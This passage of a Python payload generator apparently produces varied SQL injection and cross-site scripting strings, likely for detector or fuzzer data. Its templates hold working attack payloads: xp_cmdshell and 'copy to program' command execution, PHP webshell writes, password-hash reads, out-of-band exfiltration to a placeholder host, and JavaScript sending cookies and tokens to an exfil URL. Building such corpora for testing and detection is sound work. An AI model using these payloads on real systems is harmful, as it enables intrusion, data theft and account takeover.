    (5, "' §or§ '§w:a§'='§w:a§"), (2, '" §or§ "§w:a§"="§w:a§'), (2, "') §or§ ('§w:a§'='§w:a§"),
    (2, "§sqv§' §or§ '§n:a§'='§n:a§"), (2, "' §or§ ''='"), (1, '" §or§ ""="'), (1, "'='"), (1, "'or''='"),
    (2, "§sq_sctx§§or§§sq_true§§sq_end§"), (3, "§sq_sctx§ §and§ §sq_true§§sq_end§"), (3, "§sq_sctx§ §and§ §sq_false§§sq_end§"),
    (2, "§sq_nctx§ §and§ §sq_true§"), (2, "§sq_nctx§ §and§ §sq_false§"), (1, "§sq_sctx§ §and§ §sq_true§ §and§ '§w:a§'='§w:a§"),
    (1, "'§sqop§'"), (1, "§sq_sctx§ §or§ §col§ is not null§sq_end§"), (1, "§sq_sctx§ §or§ §col§ like '%'§sq_end§"),
    (1, "§sq_sctx§ §or§ exists(select 1)§sq_end§"), (1, "§sq_sctx§ §or§ (select §n:a§)=§n:a§§sq_end§"),
    (1, "§sq_sctx§ xor §sq_true§§sq_end§"), (1, "§sq_sctx§ §or§ §sq_true§ group by §col§ having §sq_true§§sq_end§"),
    (1, "§sq_sctx§ §or§ §sq_true§ order by §n§§sq_end§")])
_def("sqop", ["-", "&", "^", "*", "|", "+", " - ", " * ", "=", "||", "or", " or "])


def _ucols(rng: random.Random) -> str:
    k = rng.choices(range(1, 13), weights=(6, 8, 10, 10, 8, 7, 5, 4, 3, 2, 2, 1))[0]
    style = rng.randrange(5)
    cols = []
    for i in range(k):
        if style == 0:
            cols.append("null")
        elif style == 1:
            cols.append(str(i + 1))
        elif style == 2:
            cols.append(rng.choice(("null", str(i + 1))))
        elif style == 3:
            cols.append(str(rng.randint(1, 9999)))
        else:
            cols.append(rng.choice(("'a'", f"'{_word(rng)}'", "null", "0x41", str(i + 1), "char(65)")))
    for _ in range(rng.choice((0, 1, 1, 1, 2)) if k > 1 else rng.choice((0, 1))):
        cols[rng.randrange(k)] = _s("sq_info", rng)
    return ",".join(cols)


_def("ucols", _ucols)
_def("sq_info", [
    (3, "version()"), (3, "@@version"), (2, "user()"), "current_user", "current_user()", (2, "database()"),
    "schema()", "@@datadir", "@@hostname", "system_user()", "session_user", "@@basedir", "@@port",
    (3, "concat(§col§,0x3a,§col§)"), "concat_ws(0x3a,§col§,§col§)", "concat(§col§,':',§col§)",
    (2, "group_concat(§col§)"), (2, "group_concat(table_name)"), (2, "group_concat(column_name)"),
    "group_concat(§col§ separator 0x3c62723e)", "group_concat(schema_name)", "table_name", "column_name",
    "schema_name", (3, "§col§"), "§col§||':'||§col§", "§col§||'~'||§col§", "load_file('/§unix_file§')",
    "sqlite_version()", "banner", "name", "sql", "tbl_name", "db_name()", "@@servername", "current_database()",
    "string_agg(§col§,',')", "hex(§col§)", "md5(§n§)", "'§w§'", "0x§hexword§", "char(§charlist§)",
    "(select §col§ from §table§ limit 1)", "pg_read_file('/§unix_file§')", "user", "system_user",
    "concat(0x7e,version(),0x7e)", "json_arrayagg(§col§)", "to_char(§col§)", "listagg(§col§,',')",
    "password", "authentication_string", "usename", "passwd", "suser_name()", "host_name()"])
_def("hexword", lambda rng: _word(rng).encode().hex())
_def("charlist", lambda rng: ",".join(str(ord(c)) for c in _word(rng)))
_def("sq_uopen", [(6, "§sq_sctx§"), (3, "§sq_nctx§"), (2, "-§n§"), (1, "-§N§"), (1, "0"), (1, "§sq_sctx§ and 1=2"),
                  (1, "§sq_nctx§ and 1=0"), (1, "§sqv§') and 1=0"), (1, "null")])
_def("uall", [(6, ""), (3, "all "), (1, "distinct ")])
_def("ufrom", [
    (12, ""), (5, " from §table§"), (3, " from information_schema.tables"),
    (3, " from information_schema.tables where table_schema=database()"),
    (2, " from information_schema.columns where table_name='§table§'"),
    " from information_schema.columns where table_name=0x§hexword§", " from information_schema.schemata",
    " from mysql.user", (2, " from dual"), " from sqlite_master where type='table'", " from sqlite_master",
    " from pg_catalog.pg_tables", " from pg_user", " from pg_shadow", " from sysobjects where xtype='u'",
    " from master..sysdatabases", " from master..syslogins", " from all_tables", " from all_users",
    " from v$version", " from sys.tables", " from information_schema.tables limit §n§,1",
    " from §table§ limit §n§", " from §table§ where §col§='§sqv§'", " from §table§ where §col§ like '%§letter§%'",
    " from §table§ order by 1", " from §table§ limit 1 offset §n§", " from §table§--", " from user_tables",
    " from information_schema.routines", " from sys.databases", " from mysql.db"])
_def("sq_union", [
    (12, "§sq_uopen§ union §uall§select §ucols§§ufrom§§sq_end§"),
    (2, "§sq_uopen§ union §uall§(select §ucols§§ufrom§)§sq_end§"),
    (1, "§sq_uopen§ union select * from (select §ucols§)§w§§sq_end§"),
    (1, "§sq_uopen§ union §uall§select §ucols§§ufrom§ into @,@,@§sq_end§"),
    (1, "§sq_uopen§ union §uall§select §ucols§§ufrom§ procedure analyse()§sq_end§"),
    (1, "§sq_uopen§ union select top 1 §ucols§§ufrom§§sq_end§"),
    (1, "§sq_uopen§ union §uall§select §ucols§ from §table§ where §sq_true§§sq_end§"),
    (1, "§sq_uopen§ union §uall§select §ucols§§ufrom§ -- §w§")])
_def("sq_stmt", [
    (3, "drop table §table§"), "drop database §w§", "drop table if exists §table§",
    (2, "insert into §table§(§col§,§col§) values('§w§','§w§')"), "insert into §table§ values(§n§,'§user§','§pw§')",
    (2, "update §table§ set §col§='§w§' where §col§='§sqv§'"), "update §table§ set is_admin=1 where §col§='§user§'",
    "delete from §table§", "delete from §table§ where 1=1", "truncate table §table§", (2, "select §sq_info§"),
    (2, "select pg_sleep(§n§)"), (2, "waitfor delay '0:0:§n§'"), "select sleep(§n§)",
    (3, "exec xp_cmdshell '§cmdq§'"), (2, "exec master..xp_cmdshell '§wcmd_simple§'"),
    "exec master.dbo.xp_cmdshell '§wcmd_simple§'", "execute xp_cmdshell 'powershell -enc §ps_b64§'",
    "exec sp_configure 'show advanced options',1;reconfigure;exec sp_configure 'xp_cmdshell',1;reconfigure",
    "declare @§w§ varchar(4000);set @§w§=0x§hexcmd§;exec(@§w§)", "shutdown", "shutdown with nowait",
    "create user §w§ identified by '§pw§'", "grant all privileges on *.* to '§w§'@'%'",
    "alter user root identified by '§pw§'", "copy (select '') to program '§cmdq§'",
    "create table §w§(t text);copy §w§ from program '§cmdq§'", "select load_file('/§unix_file§')",
    "select '§phpshell§' into outfile '§webroot§/§w§.php'", "exec sp_addlogin '§w§','§pw§'",
    "exec sp_addsrvrolemember '§w§','sysadmin'", "alter table §table§ add §col§ text",
    "create function sys_exec returns string soname 'lib_mysqludf_sys.so'", "select sys_exec('§cmdq§')",
    "attach database '§webroot§/§w§.php' as §w:d§;create table §w:d§.§w§ (d text);insert into §w:d§.§w§ (d) values ('§phpshell§')",
    "set global general_log='on'", "select * from §table§", "exec sp_msforeachtable 'drop table ?'",
    "select pg_read_file('/§unix_file§')", "create or replace function §w§() returns void as $$ copy (select 1) to program '§cmdq§' $$ language sql",
    "begin dbms_lock.sleep(§n§); end", "rename table §table§ to §w§", "revoke all on §table§ from public"])
_def("hexcmd", lambda rng: ("exec master..xp_cmdshell '" + _s("wcmd_simple", rng) + "'").encode().hex())
_def("sq_stacked", [(6, "§sq_open§;§sq_stmt§§sq_end§"), (3, "§sq_open§; §sq_stmt§§sq_end§"), (1, "§sq_open§;§sq_stmt§;§sq_stmt§§sq_end§"),
                    (1, ";§sq_stmt§§sq_end§"), (1, "§sq_nctx§;§sq_stmt§")])
_def("subq", [
    (3, "select version()"), (2, "select @@version"), (2, "select user()"), (2, "select database()"),
    "select current_user", (3, "select §col§ from §table§ limit §n§,1"), "select §col§ from §table§ limit 1",
    (2, "select table_name from information_schema.tables limit §n§,1"),
    "select table_name from information_schema.tables where table_schema=database() limit §n§,1",
    "select column_name from information_schema.columns where table_name='§table§' limit §n§,1",
    "select group_concat(§col§) from §table§", "select banner from v$version where rownum=1",
    "select name from sqlite_master where type='table' limit 1", "select top 1 name from sysobjects",
    "select password from mysql.user where user='root'", "select load_file('/§unix_file§')",
    "select sqlite_version()", "select schema_name from information_schema.schemata limit §n§,1",
    "select usename from pg_user limit 1", "select current_database()", "select db_name()",
    "select system_user", "select top 1 §col§ from §table§", "select §col§ from §table§ where §col§='§user§'",
    "select count(*) from §table§", "select user from dual", "select passwd from pg_shadow limit 1",
    "select @@hostname", "select string_agg(datname,',') from pg_database"])
_def("byte", _ri(32, 126))
_def("bcond", [
    (3, "substring((§subq§),§n§,1)='§letter§'"), (2, "substr((§subq§),§n§,1)='§letter§'"),
    "mid((§subq§),§n§,1)='§letter§'", (3, "ascii(substring((§subq§),§n§,1))>§byte§"),
    "ord(mid((§subq§),§n§,1))=§byte§", "unicode(substring((§subq§),§n§,1))<§byte§", "length((§subq§))>§n§",
    (2, "length(database())=§n§"), "len(db_name())=§n§", (2, "(select count(*) from §table§)>§n§"),
    "exists(select * from §table§)", "exists(select §col§ from §table§ where §col§ like '§letter§%')",
    "(select substring(§col§,§n§,1) from §table§ where §col§='§user§')='§letter§'", (2, "§sq_true§"),
    (2, "§sq_false§"), "(§subq§) like '§letter§%'", "(§subq§) regexp '^§letter§'",
    "ascii(lower(substr(user(),§n§,1)))>§byte§", "instr((§subq§),'§letter§')>0", "(select 1 from §table§ limit 1)=1",
    "hex(substr((§subq§),§n§,1))='§hex2§'", "bin(ascii(substr((§subq§),§n§,1)))>§n§",
    "(select case when (§sq_true§) then 1 else 0 end)=1", "ascii(substr((§subq§) from §n§ for 1))>§byte§",
    "(select count(*) from information_schema.tables)>§nn§", "(select top 1 len(§col§) from §table§)>§n§"])
_def("hex2", lambda rng: "%02x" % rng.randint(32, 126))
_def("sq_blind", [
    (8, "§sq_open§ §and§ §bcond§§sq_end§"), (3, "§sq_sctx§ §and§ §bcond§ §and§ '§w:a§'='§w:a§"),
    (2, "§sq_open§ §or§ §bcond§§sq_end§"), (3, "§sq_nctx§ §and§ §bcond§"), (2, "§sq_open§ §and§ (§bcond§)§sq_end§"),
    (1, "§sq_nctx§ and if(§bcond§,1,0)"), (1, "§sq_sctx§ and (select case when (§bcond§) then 1 else 1/0 end)=1§sq_end§"),
    (1, "§sq_nctx§*(case when (§bcond§) then 1 else 0 end)"), (1, "if(§bcond§,§n§,§n§)"),
    (1, "(case when §bcond§ then §n§ else §n§ end)"), (1, "§sq_sctx§||(select case when §bcond§ then '' else 'x' end)||'")])
_def("tfunc", [
    (5, "sleep(§n§)"), (2, "benchmark(§big§,md5('§w§'))"), "benchmark(§big§,sha1(§n§))", (4, "pg_sleep(§n§)"),
    "dbms_pipe.receive_message(('§w§'),§n§)", "dbms_lock.sleep(§n§)", (2, "randomblob(§big§00)"),
    (2, "(select sleep(§n§))"), "(select §n§ from (select(sleep(§n§)))§w§)", "(select pg_sleep(§n§))",
    "sleep(§n§)=0", "get_lock('§w§',§n§)"])
_def("tstmt", [
    (4, "waitfor delay '0:0:§n§'"), (2, "waitfor delay '00:00:0§n§'"), (3, "select pg_sleep(§n§)"),
    (2, "select sleep(§n§)"), "select benchmark(§big§,md5(§n§))", "waitfor time '23:§nn§'",
    "exec dbms_lock.sleep(§n§)", "begin dbms_lock.sleep(§n§); end", "select 1 from pg_sleep(§n§)",
    "if (§bcond§) waitfor delay '0:0:§n§'", "if(1=1) waitfor delay '0:0:§n§'"])
_def("sq_time", [
    (8, "§sq_open§ §and§ §tfunc§§sq_end§"), (4, "§sq_open§ §or§ §tfunc§§sq_end§"),
    (3, "§sq_sctx§ §and§ §tfunc§ §and§ '§w:a§'='§w:a§"), (2, "§sq_nctx§ and if(§bcond§,sleep(§n§),0)"),
    (2, "§sq_sctx§ and if(§bcond§,sleep(§n§),0)§sq_end§"), (2, "§sq_sctx§ and (select * from (select(sleep(§n§)))§w§)§sq_end§"),
    (6, "§sq_open§;§tstmt§§sq_end§"), (1, "§sq_sctx§ + §tfunc§ + '"), (2, "§sq_sctx§||§tfunc§||'"),
    (1, "§sq_nctx§ and §n:a§=(select §n:a§ from pg_sleep(§n§))"),
    (2, "§sq_open§ and (case when (§bcond§) then pg_sleep(§n§) else pg_sleep(0) end) is null§sq_end§"),
    (1, "§sq_nctx§ and 1=like('ABCDEFG',upper(hex(randomblob(§big§00))))"),
    (1, "if(now()=sysdate(),sleep(§n§),0)"), (1, "§sqv§'xor(if(now()=sysdate(),sleep(§n§),0))xor'§W§"),
    (1, "§sq_nctx§ rlike sleep(§n§)"), (1, "§sq_sctx§ rlike (select sleep(§n§))§sq_end§"),
    (1, "(select(0)from(select(sleep(§n§)))v)"), (1, "§sq_open§ order by sleep(§n§)§sq_end§"),
    (1, "§sq_sctx§;select case when (§bcond§) then pg_sleep(§n§) else pg_sleep(0) end§sq_end§"),
    (1, "§sq_nctx§ and §n§=dbms_pipe.receive_message(('§w§'),§n§)")])
_def("sq_error", [
    (4, "§sq_open§ §and§ extractvalue(§n§,concat(0x7e,(§subq§),0x7e))§sq_end§"),
    (3, "§sq_open§ §and§ updatexml(§n§,concat(0x7e,(§subq§)),§n§)§sq_end§"),
    (3, "§sq_open§ §and§ §n§=convert(int,(§subq§))§sq_end§"), (3, "§sq_open§ §and§ §n§=cast((§subq§) as int)§sq_end§"),
    "§sq_open§ §and§ cast((§subq§) as numeric)=§n§§sq_end§",
    (2, "§sq_open§ §and§ (select §n§ from(select count(*),concat((§subq§),floor(rand(0)*2))x from information_schema.tables group by x)a)§sq_end§"),
    "§sq_open§ §and§ exp(~(select * from (§subq§)a))§sq_end§", (2, "§sq_open§ §and§ §n§=(§subq§)::int§sq_end§"),
    "§sq_open§ §and§ §n§=ctxsys.drithsx.sn(§n§,(§subq§))§sq_end§", "§sq_open§ §and§ §n§=utl_inaddr.get_host_name((§subq§))§sq_end§",
    (2, "§sq_sctx§ having 1=1§sq_end§"), (2, "§sq_sctx§ group by §table§.§col§ having 1=1§sq_end§"),
    "§sq_open§ and 1=(select 1/0)§sq_end§", "§sq_open§ and json_keys((select convert((§subq§) using utf8)))§sq_end§",
    "§sq_open§ and gtid_subset(concat(0x7e,(§subq§),0x7e),1)§sq_end§", "§sq_sctx§ + convert(int,@@version) + '",
    "§sq_nctx§ and 1 in (select @@version)", "§sq_nctx§ and §n§=convert(int,db_name())",
    "§sq_open§ and row(1,1)>(select count(*),concat((§subq§),0x3a,floor(rand()*2))x from (select 1 union select 2)a group by x limit 1)§sq_end§",
    "§sq_open§ and 1=cast(version() as integer)§sq_end§", "§sq_open§ and st_latfromgeohash((§subq§))§sq_end§",
    "§sq_open§ and polygon((select * from(select * from(§subq§)a)b))§sq_end§",
    "§sq_open§ and xmltype('<'||(§subq§)||'>')=1§sq_end§", "§sq_sctx§||(select extractvalue(xmltype('<x>'||(§subq§)||'</x>'),'/x') from dual)||'",
    "§sq_open§ and §n§=(select upper(xmltype(chr(60)||chr(58)||(§subq§)||chr(62))) from dual)§sq_end§"])
_def("sq_order", [
    (6, "§sq_open§ order by §nn_small§§sq_end§"), (2, "§sq_open§ order by §nn_small§ §ascdesc§§sq_end§"),
    (2, "§sq_open§ group by §nn_small§§sq_end§"), (2, "§sq_open§ group by §collist§ having §sq_true§§sq_end§"),
    "§sq_nctx§ order by §nn_small§,§nn_small§", "§sq_open§ order by (select §n§)§sq_end§",
    "§sq_open§ order by if(§bcond§,1,(select 1 union select 2))§sq_end§", "§sq_nctx§ procedure analyse()",
    "§sq_open§ order by §col§§sq_end§", "(case when (§bcond§) then §col§ else §col§ end)",
    "§col§,(select case when (§bcond§) then 1 else 1*(select 1 union select 2) end)",
    "§col§ desc,if(§bcond§,sleep(§n§),0)", "(select 1 from dual where §bcond§)", "§col§ limit 1 into outfile '/tmp/§w§'"])
_def("nn_small", _ri(1, 30))
_def("ascdesc", ["asc", "desc"])
_def("collist", lambda rng: ",".join(rng.sample(_COLUMNS, rng.randint(1, 4))))
_def("sq_oob", [
    (3, "§sq_open§ union select load_file('/§unix_file§')§sq_end§"),
    (2, "§sq_open§ union select §ucols§ into outfile '§webroot§/§w§.§ext§'§sq_end§"),
    (2, "§sq_open§ union select '§phpshell§' into dumpfile '§webroot§/§w§.php'§sq_end§"),
    (2, "§sq_open§ and load_file(concat('\\\\\\\\',(§subq§),'.§host§\\\\§w§'))§sq_end§"),
    (2, "§sq_open§;exec master..xp_dirtree '\\\\§host§\\§w§'§sq_end§"), "§sq_open§;exec master..xp_fileexist '\\\\§host§\\§w§'§sq_end§",
    (2, "§sq_sctx§||utl_http.request('http://§host§/'||(§subq§))||'"),
    "§sq_open§ and §n§=utl_http.request('http://§host§/'||(§subq§))§sq_end§",
    "§sq_open§ union select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://§host§/\"> %x;]>'),'/l') from dual§sq_end§",
    "§sq_open§;copy (select '') to program 'curl http://§host§/?d=$(whoami)'§sq_end§",
    "§sq_open§;select dblink_connect('host=§host§ user='||(§subq§)||' password=x dbname=x')§sq_end§",
    "§sq_open§;declare @§w:v§ varchar(1024);set @§w:v§=(§subq§);exec('master..xp_dirtree \"\\\\'+@§w:v§+'.§host§\\x\"')§sq_end§",
    "§sq_open§ and (select load_file('/§unix_file§')) is not null§sq_end§", "§sq_open§;select pg_read_file('/§unix_file§')§sq_end§",
    "§sq_open§;select lo_import('/§unix_file§')§sq_end§", "§sq_open§ union select null,null into outfile '/tmp/§w§'§sq_end§",
    "§sq_open§;exec master..xp_cmdshell 'nslookup §host§'§sq_end§", "§sq_open§ and (select sys.dbms_ldap.init('§host§',80) from dual) is not null§sq_end§"])
_def("sq_arith", [
    (3, "§n§*§n§"), (2, "§nn§/§n§"), (2, "§nn§-§n§*0"), "§n§+§n§-§n§", "(§nn§)", "§nn§ div 1", "§n§ and §sq_true§",
    "§n§ and §sq_false§", "§nn§-false", "§nn§*true", "§n§)and(§sq_true§", "§nn§ xor 0", "(select §nn§)",
    "§nn§ and §n§*§n§=§nn§", "§nn§ %26%26 §sq_true§", "§nn§ or §sq_true§", "§nn:a§*1=§nn:a§", "§n§ / 1",
    "abs(-§nn§)", "ceil(§n§.§n§)", "§nn§ & §nn§", "§nn§ | 0", "§nn§^0", "-(-§nn§)", "(§n§)*(§n§)"])
_def("sq_login", [
    (4, "§user§'§sq_end§"), (2, "§user§'/*"), (2, "§user§' #"), (2, "§user§'--"), "§user§\" --", "§user§') --",
    (2, "§user§' or '1'='1"), "§user§' or 1=1 limit 1§sq_end§", "' or 1=1 and §col§ like '§user§%'§sq_end§",
    "' union select 1,'§user§','§md5§',1§sq_end§", "§user§' and password like '§letter§%'§sq_end§",
    "' or §col§='§user§'§sq_end§", "') or ('§user§'='§user§'§sq_end§", "§user§' and 1=1§sq_end§",
    "§user§'||'", "' or username like '%§user§%'§sq_end§", "§user§')-- -", "§user§' or ''='"])
_def("md5", lambda rng: "%032x" % rng.getrandbits(128))
_def("sqli", [(14, "§sq_taut§"), (13, "§sq_union§"), (7, "§sq_stacked§"), (10, "§sq_blind§"), (10, "§sq_time§"),
              (9, "§sq_error§"), (5, "§sq_order§"), (5, "§sq_oob§"), (3, "§sq_arith§"), (6, "§sq_login§")])


# ---------------------------------------------------------------------------------------------
# Cross-site scripting
# ---------------------------------------------------------------------------------------------

_def("jf", [(6, "alert"), (3, "prompt"), (3, "confirm"), (1, "print"), (1, "console.log"), (1, "eval")])
_def("jfq", [(6, "alert"), (3, "prompt"), (3, "confirm")])
_def("jarg", [(8, "1"), (3, "§n§"), (3, "document.cookie"), (3, "document.domain"), (2, "window.origin"), "origin",
              (2, "'§W§'"), '"§W§"', "/§W§/", "String.fromCharCode(§charcodes§)", "document.location", "localStorage",
              "§N§", "this", "location", "navigator.userAgent", "1337", "'XSS'", "top.location.href", "document.title"])
_def("jarg_s", ["1", "§n§", "document.cookie", "document.domain", "origin", "/§W§/", "§N§", "location"])
_def("charcodes", lambda rng: ",".join(str(ord(c)) for c in rng.choice(("XSS", "xss", _word(rng), "1", "hacked"))))


def _js_split(word: str, rng: random.Random) -> str:
    cut = rng.randint(1, len(word) - 1)
    return f"'{word[:cut]}'+'{word[cut:]}'"


_def("jfsplit", lambda rng: _js_split(_s("jfq", rng), rng))
_def("b64jf", lambda rng: _b64(_s("jfq", rng)))
_def("b64js", lambda rng: _b64(_s("js_plain", rng)))
_def("ext_js", ["//§host§/§w§.js", "https://§host§/§w§.js", "http://§ip§/x.js", "//§host§", "https://§host§/",
                "//§host§/x", "https://§evil§/hook.js", "//§ip§:§port§/§rand§.js"])
_def("js_plain", ["§jfq§(§jarg_s§)", "fetch('§exfil§'+document.cookie)", "new Image().src='§exfil§'+document.cookie",
                  "document.location='§exfil§'+document.cookie", "§jfq§(document.domain)"])
_def("js", [
    (14, "§jf§(§jarg§)"), (3, "§jfq§`§jarg_bt§`"), "§jfq§.call(null,§jarg§)", "§jfq§.apply(null,[§jarg§])",
    "window.§jfq§(§jarg§)", "top.§jfq§(§jarg§)", "self['§jfq§'](§jarg§)", "top[§jfsplit§](§jarg§)",
    "window[atob('§b64jf§')](§jarg§)", "(§jfq§)(§jarg§)", "[§jarg§].find(§jfq§)", "[§jarg§].map(§jfq§)",
    "setTimeout('§jfq§(§jarg_s§)')", "setTimeout(§jfq§,0,§jarg§)", "Function('§jfq§(§jarg_s§)')()",
    "constructor.constructor('§jfq§(§jarg_s§)')()", (2, "eval(atob('§b64js§'))"), "eval('§jfq§(§jarg_s§)')",
    "eval(String.fromCharCode(§jscodes§))", "import('§ext_js§')", (2, "fetch('§exfil§'+document.cookie)"),
    "fetch('§exfil§',{method:'POST',body:document.cookie})", (2, "new Image().src='§exfil§'+document.cookie"),
    "navigator.sendBeacon('§exfil§',document.cookie)", (2, "document.location='§exfil§'+document.cookie"),
    "location.href='§exfil§'+escape(document.cookie)", "window.location='§exfil§'+btoa(document.cookie)",
    "document.write('<img src=§exfil§'+document.cookie+'>')",
    "var s=document.createElement('script');s.src='§ext_js§';document.body.appendChild(s)",
    "$.getScript('§ext_js§')", "fetch('/§apipath§').then(r=>r.text()).then(t=>fetch('§exfil§'+btoa(t)))",
    "fetch('§exfil§'+localStorage.getItem('§lsitem§'))", "onerror=§jfq§;throw §jarg_s§", "throw onerror=§jfq§,§jarg_s§",
    "x=new XMLHttpRequest();x.open('GET','§exfil§'+document.cookie);x.send()", "document.body.innerHTML='§W§'",
    "top[/§jfq§/.source](§jarg§)", "Reflect.apply(§jfq§,null,[§jarg§])", "location='javascript:§jfq§(§jarg_s§)'",
    "§jfq§(document.cookie)", "document.forms[0].action='§exfil§'", "window.open('§exfil§'+document.cookie)",
    "globalThis[§jfsplit§](§jarg§)", "Function`a${'§jfq§(§jarg_s§)'}```"])
_def("jarg_bt", ["1", "§n§", "§W§", "xss", "${document.domain}", "${document.cookie}"])
_def("jscodes", lambda rng: ",".join(str(ord(c)) for c in _s("js_plain", rng)))
_def("apipath", ["api/me", "account", "admin", "api/user", "profile", "settings", "api/keys", "api/v1/token"])
_def("lsitem", ["token", "jwt", "access_token", "auth", "session", "id_token"])


def _attr(value: str, rng: random.Random) -> str:
    """`value` as an HTML attribute value: unquoted when it can be, else quoted with what it lacks."""
    options = []
    if not any(ch in value for ch in " \t\n>\"'`="):
        options += ["", "", ""]
    if '"' not in value:
        options += ['"', '"']
    if "'" not in value:
        options.append("'")
    if not options:
        return '"' + value.replace('"', "&quot;") + '"'
    quote = rng.choice(options)
    return quote + value + quote


_def("ajs", lambda rng: _attr(_s("js", rng), rng))
_def("srcval", [(6, "x"), (2, "1"), "#", "/", "x:x", "§w§.jpg", "//§host§/§w§.png", "data:x", "''", '""', "0",
                "https://§trusted§/§w§.gif", "invalid", "javascript:void(0)", "/§rand§"])
_def("tag_src", [(6, "img"), (2, "image"), "video", "audio", "embed", "input type=image", "iframe", "source", "track"])
_def("ev_body", ["onload", "onpageshow", "onfocus", "onhashchange", "onresize", "onscroll", "onunload", "onbeforeunload",
                 "onmessage", "onpopstate", "onerror", "onafterprint", "onbeforeprint", "onoffline", "ononline",
                 "onstorage", "onpagehide"])
_def("ev_mouse", ["onclick", "onmouseover", "onmouseenter", "onmousemove", "onmousedown", "onmouseup", "onmouseout",
                  "onmouseleave", "ondblclick", "oncontextmenu", "onauxclick", "onpointerover", "onpointerenter",
                  "onpointerdown", "onpointermove", "onpointerup", "onkeydown", "onkeypress", "onkeyup", "oncopy", "oncut",
                  "onpaste", "ondrag", "ondragstart", "ondragend", "ondrop", "onwheel", "ontouchstart", "ontouchend",
                  "onfocusin", "onbeforecopy", "oninput", "onchange", "onanimationend", "ontransitionend",
                  "onanimationiteration", "onselect", "onbeforeinput", "onmousewheel", "ongotpointercapture"])
_def("tag_any", ["div", "a", "p", "span", "b", "i", "u", "h1", "h2", "x", "xss", "abbr", "address", "article", "aside",
                 "bdo", "blockquote", "button", "center", "cite", "code", "del", "dfn", "em", "font", "header",
                 "footer", "ins", "kbd", "label", "legend", "li", "main", "mark", "nav", "nobr", "ol", "output",
                 "pre", "q", "s", "samp", "section", "small", "strike", "strong", "sub", "sup", "td", "tt", "ul",
                 "var", "custom-§w§", "marquee", "dialog", "summary", "figure", "table", "tr", "form", "fieldset"])
_def("tag_focus", ["input", "textarea", "select", "button", "keygen", "iframe", "a href=#", "object", "embed"])
_def("x_vec", [
    (8, "<script>§js§</script>"), (2, "<script>§js§;</script>"), "<script type=text/javascript>§js§</script>",
    "<script type=\"text/javascript\">§js§</script>", (2, "<script src=§ext_js§></script>"), "<script src=§ext_js§>",
    "<script>§js§//", "<script>§js§</script >", "<script\n>§js§</script>", "<script language=javascript>§js§</script>",
    (10, "<§tag_src§ src=§srcval§ onerror=§ajs§>"), (2, "<§tag_src§ src onerror=§ajs§>"), "<img src=§srcval§ onerror=§ajs§/>",
    "<img src=§srcval§ onerror=§ajs§ ", "<img/src=§srcval§/onerror=§ajs§>", "<img src=§srcval§ onload=§ajs§>",
    (6, "<svg onload=§ajs§>"), (2, "<svg/onload=§ajs§>"), "<svg onload=§ajs§//", "<svg><script>§js§</script></svg>",
    "<svg><animate onbegin=§ajs§ attributeName=x dur=1s>", "<svg><set attributeName=§w§ onbegin=§ajs§>",
    "<svg><animate onend=§ajs§ attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:§js§\"><text x=\"20\" y=\"20\">§W§</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:§js§></iframe></foreignObject></svg>",
    (3, "<body §ev_body§=§ajs§>"), (2, "<iframe onload=§ajs§>"), "<iframe src=\"javascript:§js§\">",
    "<iframe src=javascript:§js§></iframe>", "<iframe srcdoc=\"&lt;script&gt;§js§&lt;/script&gt;\">",
    "<iframe srcdoc=\"<svg onload=§js§>\"></iframe>", (2, "<details open ontoggle=§ajs§>"), "<details/open/ontoggle=§ajs§>",
    (3, "<§tag_focus§ autofocus onfocus=§ajs§>"), "<§tag_focus§ onfocus=§ajs§ autofocus>",
    "<input autofocus onblur=§ajs§><input autofocus>", "<marquee onstart=§ajs§>§W§</marquee>",
    "<marquee loop=1 width=0 onfinish=§ajs§>§W§</marquee>", "<video><source onerror=§ajs§></video>",
    "<video src=§srcval§ onerror=§ajs§>", "<audio src=§srcval§ onerror=§ajs§>", "<video poster=javascript:§js§//></video>",
    "<audio controls onplay=§ajs§><source src=§w§.mp3></audio>", "<input type=image src=§srcval§ onerror=§ajs§>",
    (5, "<§tag_any:t§ §ev_mouse§=§ajs§>§W§</§tag_any:t§>"), (2, "<§tag_any:t§ §ev_mouse§=§ajs§>"),
    "<§tag_any:t§ style=\"animation-name:§w§\" onanimationstart=§ajs§></§tag_any:t§>",
    "<§tag_any:t§ tabindex=1 autofocus onfocus=§ajs§></§tag_any:t§>", "<§tag_any:t§ contenteditable onblur=§ajs§>§W§</§tag_any:t§>",
    (3, "<a href=\"javascript:§js§\">§W§</a>"), "<a href=javascript:§js§>§W§</a>", "<a href=# onclick=§ajs§>§W§</a>",
    "<form action=javascript:§js§><input type=submit>", "<form><button formaction=javascript:§js§>§W§</button></form>",
    "<isindex action=javascript:§js§ type=submit>", "<object data=\"javascript:§js§\">",
    "<object data=\"data:text/html;base64,§b64html§\"></object>", "<embed src=\"data:text/html;base64,§b64html§\">",
    "<embed src=javascript:§js§>", "<math><maction actiontype=statusline xlink:href=javascript:§js§>§W§</maction></math>",
    "<link rel=stylesheet href=§srcval§ onerror=§ajs§>", "<link rel=import href=§ext_js§>", "<style onload=§ajs§></style>",
    "<style>@import '§ext_js§';</style>", "<div style=\"background-image:url(javascript:§js§)\">",
    "<div style=\"width:expression(§js§)\">", "<§tag_any:t§ style=\"x:expression(§js§)\">§W§</§tag_any:t§>",
    "<style>*{x:expression(§js§)}</style>", "<xss style=\"behavior:url(§ext_js§.htc)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:§js§\">",
    "<meta http-equiv=refresh content=\"0;url=data:text/html;base64,§b64html§\">", "<base href=\"//§host§/\">",
    "<table background=\"javascript:§js§\">", "<img dynsrc=\"javascript:§js§\">", "<img lowsrc=javascript:§js§>",
    "<bgsound src=javascript:§js§>", "<frameset onload=§ajs§>", "<html onmousemove=§ajs§>", "<keygen autofocus onfocus=§ajs§>",
    "<object onerror=§ajs§>", "<select onchange=§ajs§><option>1</option><option>2</option></select>",
    "<textarea onfocus=§ajs§ autofocus>", "<img src=§srcval§ onerror=§ajs§>§W§", "<body><img src=§srcval§ onerror=§ajs§></body>",
    "<dialog open onclose=§ajs§><form method=dialog><button>§W§</button></form></dialog>",
    "<svg><image href=§srcval§ onerror=§ajs§ />", "<x onclick=§ajs§>click me", "<button popovertarget=§w:p§>§W§</button><div popover id=§w:p§ onbeforetoggle=§ajs§>§W§</div>"])
_def("b64html", lambda rng: _b64(_fill(rng.choice(("<script>§js_plain§</script>", "<svg onload=§js_plain§>",
                                                    "<img src=x onerror=§js_plain§>")), rng)))
